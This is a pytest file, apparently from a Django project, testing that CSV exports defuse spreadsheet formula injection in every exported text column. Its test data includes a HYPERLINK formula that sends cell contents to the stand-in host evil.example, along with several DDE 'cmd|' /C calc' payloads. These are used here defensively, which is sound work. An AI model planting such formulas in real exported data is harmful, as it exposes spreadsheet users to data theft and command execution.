"""
CSV a spreadsheet can open safely: a text cell that would start a formula is neutralised with a
leading apostrophe (OWASP, "CSV Injection"), in every column kind of every list; numbers and
dates stay as they are. Data is written through the ORM and read back through the endpoints.
"""

import csv
import io

import pytest
from django.core.exceptions import ValidationError

from releases.api.exports import csv_cell
from tests.factories import AreaFactory, FeatureFactory, LinkFactory, ReleaseFactory

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
# What a spreadsheet runs: the first character, or the first after blanks.
FORMULAS = [EVIL, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1", " @SUM(A1)"]


def rows(client, path):
    response = client.get(path, {"format": "csv"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(text)))


def row_where(table, column, value):
    (row,) = [row for row in table if row[column] == value]
    return row


# A carriage return can no longer be stored in a title (issue 42: one-line fields hold no line
# break), so the titles tried are the rest; csv_cell neutralises it all the same (below).
@pytest.mark.parametrize("formula", [formula for formula in FORMULAS if "\r" not in formula])
def test_a_feature_title_that_starts_a_formula_is_neutralised(client, db, formula):
    feature = FeatureFactory(title=formula)
    row = row_where(rows(client, "/api/features/"), "slug", feature.slug)
    assert row["title"] == "'" + formula


def test_a_feature_summary_that_starts_a_formula_is_neutralised(client, db):
    feature = FeatureFactory(summary="+cmd|' /C calc'!A0")
    row = row_where(rows(client, "/api/features/"), "slug", feature.slug)
    assert row["summary"] == "'+cmd|' /C calc'!A0"


def test_a_link_label_that_starts_a_formula_is_neutralised(client, db):
    link = LinkFactory(label="@SUM(1+1)*cmd|' /C calc'!A0")
    row = row_where(rows(client, "/api/links/"), "feature", link.feature.slug)
    assert row["label"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_a_formula_cannot_be_stored_as_a_url_and_a_label_is_neutralised(client, db):
    # Issue 42: only http and https URLs are stored, so no URL can begin a formula.
    with pytest.raises(ValidationError, match="Only http and https"):
        LinkFactory(url=EVIL)
    link = LinkFactory(label=EVIL)
    row = row_where(rows(client, "/api/links/"), "feature", link.feature.slug)
    assert row["label"] == "'" + EVIL


def test_a_track_name_that_starts_a_formula_is_neutralised(client, db):
    feature = FeatureFactory()
    track = feature.track
    track.name = "-2+3+cmd|' /C calc'!A0"
    track.save()
    row = row_where(rows(client, "/api/tracks/"), "slug", track.slug)
    assert row["name"] == "'-2+3+cmd|' /C calc'!A0"


def test_an_area_name_that_starts_a_formula_is_neutralised_in_areas_and_features(client, db):
    area = AreaFactory(name="=1+1", description="\t=2+2")
    feature = FeatureFactory(area=area)
    row = row_where(rows(client, "/api/areas/"), "slug", area.slug)
    assert row["name"] == "'=1+1" and row["description"] == "'\t=2+2"
    row = row_where(rows(client, "/api/features/"), "slug", feature.slug)
    assert row["area_name"] == "'=1+1"


def test_a_release_title_and_highlights_that_start_a_formula_are_neutralised(client, db):
    release = ReleaseFactory(title="@evil", highlights="=1+1\nA fine highlight.")
    row = row_where(rows(client, "/api/releases/"), "version", release.version)
    assert row["title"] == "'@evil"
    assert row["highlights"] == "'=1+1 A fine highlight."


def test_numbers_dates_versions_and_plain_text_are_untouched(client, db):
    release = ReleaseFactory(title="PyTorch 3.0", commit_count=3400, contributor_count=0)
    feature = FeatureFactory(release=release, title="A - B = C, said @someone", position=7)
    LinkFactory(feature=feature, label="Docs", url="https://example.org/=x")
    row = row_where(rows(client, "/api/releases/"), "version", release.version)
    assert row["release_date"] == release.release_date.isoformat()
    counts = (row["commit_count"], row["contributor_count"], row["feature_count"])
    assert counts == ("3400", "0", "1")
    assert row["title"] == "PyTorch 3.0"
    row = row_where(rows(client, "/api/features/"), "slug", feature.slug)
    assert row["position"] == "7" and row["release"] == release.version
    assert row["title"] == "A - B = C, said @someone"
    assert row["links"] == "https://example.org/=x"


@pytest.mark.parametrize(
    ("value", "cell"),
    [(-3, "-3"), (-1.5, "-1.5"), (0, "0"), (2.25, "2.25"), ("-3", "'-3"), (True, "true")],
)
def test_json_numbers_stay_numbers_and_numeric_text_does_not(value, cell):
    # No column holds a negative number today; a JSON number is a number whatever its sign.
    assert csv_cell(value) == cell
